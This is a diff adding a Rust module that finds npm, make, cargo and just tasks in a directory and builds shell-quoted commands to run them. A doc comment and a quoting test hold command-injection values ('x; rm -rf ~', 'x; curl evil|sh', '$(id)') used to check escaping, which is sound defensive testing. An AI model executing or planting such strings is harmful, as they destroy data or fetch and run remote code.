@@ -0,0 +1,280 @@
+//! Task runner integration
+//!
+//! Detects project task files in a directory and lists the scripts/targets
+//! they define so they can be run in the embedded shell.
+//!
+//! # Supported files
+//! - `package.json`: npm scripts
+//! - `Makefile`: make targets
+//! - `Cargo.toml`: common cargo commands
+//! - `justfile`: just recipes
+
+use std::path::Path;
+
+/// Where a task was discovered
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TaskSource {
+    Npm,
+    Make,
+    Cargo,
+    Just,
+}
+
+impl TaskSource {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            TaskSource::Npm => "npm",
+            TaskSource::Make => "make",
+            TaskSource::Cargo => "cargo",
+            TaskSource::Just => "just",
+        }
+    }
+}
+
+/// A runnable task
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Task {
+    /// Task source file type
+    pub source: TaskSource,
+    /// Script/target name
+    pub name: String,
+    /// Shell command that runs the task
+    pub command: String,
+}
+
+impl Task {
+    /// The name comes from files in the browsed directory, so it is quoted
+    /// unless it is a plain word: a script named `x; rm -rf ~` must stay one argument
+    fn new(source: TaskSource, name: &str) -> Self {
+        let arg = quote_arg(name);
+        let command = match source {
+            TaskSource::Npm => format!("npm run {}", arg),
+            TaskSource::Make => format!("make {}", arg),
+            TaskSource::Cargo => format!("cargo {}", arg),
+            TaskSource::Just => format!("just {}", arg),
+        };
+        Self {
+            source,
+            name: name.to_string(),
+            command,
+        }
+    }
+}
+
+/// `name` as a single shell word, quoted unless it only has characters a shell leaves alone
+fn quote_arg(name: &str) -> String {
+    let plain = !name.is_empty()
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || "_-.:/+=@,".contains(c));
+    if plain {
+        name.to_string()
+    } else {
+        crate::app::shell_quote(Path::new(name))
+    }
+}
+
+/// Cargo commands offered for any Cargo project
+const CARGO_COMMANDS: &[&str] = &["build", "run", "test", "check", "clippy", "fmt", "doc"];
+
+/// Detect all tasks defined by task files in `dir`
+pub fn detect_tasks(dir: &Path) -> Vec<Task> {
+    let mut tasks = Vec::new();
+
+    if let Ok(content) = std::fs::read_to_string(dir.join("package.json")) {
+        tasks.extend(parse_npm_scripts(&content).iter().map(|n| Task::new(TaskSource::Npm, n)));
+    }
+
+    for makefile in ["Makefile", "makefile", "GNUmakefile"] {
+        if let Ok(content) = std::fs::read_to_string(dir.join(makefile)) {
+            tasks.extend(parse_make_targets(&content).iter().map(|n| Task::new(TaskSource::Make, n)));
+            break;
+        }
+    }
+
+    if dir.join("Cargo.toml").is_file() {
+        tasks.extend(CARGO_COMMANDS.iter().map(|n| Task::new(TaskSource::Cargo, n)));
+    }
+
+    for justfile in ["justfile", "Justfile", ".justfile"] {
+        if let Ok(content) = std::fs::read_to_string(dir.join(justfile)) {
+            tasks.extend(parse_just_recipes(&content).iter().map(|n| Task::new(TaskSource::Just, n)));
+            break;
+        }
+    }
+
+    tasks
+}
+
+/// Extract script names from a package.json
+pub fn parse_npm_scripts(content: &str) -> Vec<String> {
+    let json: serde_json::Value = match serde_json::from_str(content) {
+        Ok(v) => v,
+        Err(e) => {
+            tracing::warn!("Failed to parse package.json: {}", e);
+            return Vec::new();
+        }
+    };
+
+    json.get("scripts")
+        .and_then(|s| s.as_object())
+        .map(|scripts| scripts.keys().cloned().collect())
+        .unwrap_or_default()
+}
+
+/// Extract explicit targets from a Makefile
+/// Skips pattern rules (`%.o:`), special targets (`.PHONY:`) and variable assignments
+pub fn parse_make_targets(content: &str) -> Vec<String> {
+    let mut targets: Vec<String> = Vec::new();
+
+    for line in content.lines() {
+        // Recipe lines and comments
+        if line.starts_with('\t') || line.trim_start().starts_with('#') {
+            continue;
+        }
+
+        let Some(colon) = line.find(':') else { continue };
+        let rest = &line[colon + 1..];
+        // `VAR := value` / `VAR ::= value`
+        if rest.starts_with('=') || rest.starts_with(":=") || line[..colon].contains('=') {
+            continue;
+        }
+
+        for name in line[..colon].split_whitespace() {
+            let is_special = name.starts_with('.') || name.contains('%') || name.contains('$');
+            if !is_special && !targets.iter().any(|t| t == name) {
+                targets.push(name.to_string());
+            }
+        }
+    }
+
+    targets
+}
+
+/// Extract recipe names from a justfile
+pub fn parse_just_recipes(content: &str) -> Vec<String> {
+    let mut recipes: Vec<String> = Vec::new();
+
+    for line in content.lines() {
+        // Recipe bodies are indented; skip comments, attributes and settings
+        if line.starts_with(' ') || line.starts_with('\t') {
+            continue;
+        }
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with('[')
+            || trimmed.starts_with("set ") || trimmed.starts_with("export ")
+            || trimmed.starts_with("alias ") || trimmed.starts_with("import ")
+            || trimmed.starts_with("mod ") {
+            continue;
+        }
+
+        let Some(colon) = trimmed.find(':') else { continue };
+        // `name := value` is an assignment, not a recipe
+        if trimmed[colon + 1..].starts_with('=') {
+            continue;
+        }
+
+        // Recipe header: `@name param1 param2: deps`
+        if let Some(name) = trimmed[..colon].split_whitespace().next() {
+            let name = name.trim_start_matches('@');
+            if !name.is_empty() && !recipes.iter().any(|r| r == name) {
+                recipes.push(name.to_string());
+            }
+        }
+    }
+
+    recipes
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_parse_npm_scripts() {
+        let content = r#"{
+            "name": "demo",
+            "scripts": {
+                "build": "tsc",
+                "test": "jest",
+                "lint": "eslint ."
+            },
+            "dependencies": {}
+        }"#;
+        let scripts = parse_npm_scripts(content);
+        assert_eq!(scripts.len(), 3);
+        assert!(scripts.contains(&"build".to_string()));
+        assert!(scripts.contains(&"test".to_string()));
+        assert!(scripts.contains(&"lint".to_string()));
+    }
+
+    #[test]
+    fn test_parse_npm_scripts_missing_or_invalid() {
+        assert!(parse_npm_scripts(r#"{"name": "demo"}"#).is_empty());
+        assert!(parse_npm_scripts("not json").is_empty());
+    }
+
+    #[test]
+    fn test_parse_make_targets() {
+        let content = "\
+CC := gcc
+VERSION = 1.0
+.PHONY: all clean
+
+# Build everything
+all: app lib
+\t$(CC) -o app main.c
+
+app lib: main.c
+\t@echo building
+
+%.o: %.c
+\t$(CC) -c $<
+
+clean:
+\trm -f *.o
+";
+        let targets = parse_make_targets(content);
+        assert_eq!(targets, vec!["all", "app", "lib", "clean"]);
+    }
+
+    #[test]
+    fn test_parse_just_recipes() {
+        let content = "\
+set shell := [\"bash\", \"-c\"]
+version := \"1.0\"
+
+# Run tests
+test:
+    cargo test
+
+@build target='debug': test
+    cargo build
+";
+        assert_eq!(parse_just_recipes(content), vec!["test", "build"]);
+    }
+
+    #[test]
+    fn test_task_names_are_quoted() {
+        let content = r#"{"scripts": {"build": "tsc", "x; curl evil|sh": "", "t`id`": "", "it's": ""}}"#;
+        let commands: Vec<String> = parse_npm_scripts(content).iter()
+            .map(|name| Task::new(TaskSource::Npm, name).command)
+            .collect();
+        assert!(commands.contains(&"npm run build".to_string()));
+        assert!(commands.contains(&"npm run 'x; curl evil|sh'".to_string()));
+        assert!(commands.contains(&"npm run 't`id`'".to_string()));
+        assert!(commands.contains(&"npm run 'it'\\''s'".to_string()));
+        assert_eq!(Task::new(TaskSource::Make, "$(id)").command, "make '$(id)'");
+    }
+
+    #[test]
+    fn test_detect_tasks() {
+        let temp = tempdir().unwrap();
+        std::fs::write(temp.path().join("Makefile"), "all:\n\techo hi\n").unwrap();
+        std::fs::write(temp.path().join("Cargo.toml"), "[package]\nname = \"x\"\n").unwrap();
+
+        let tasks = detect_tasks(temp.path());
+        assert!(tasks.contains(&Task::new(TaskSource::Make, "all")));
+        assert!(tasks.iter().any(|t| t.command == "cargo build"));
+        assert!(!tasks.iter().any(|t| t.source == TaskSource::Npm));
+    }
+}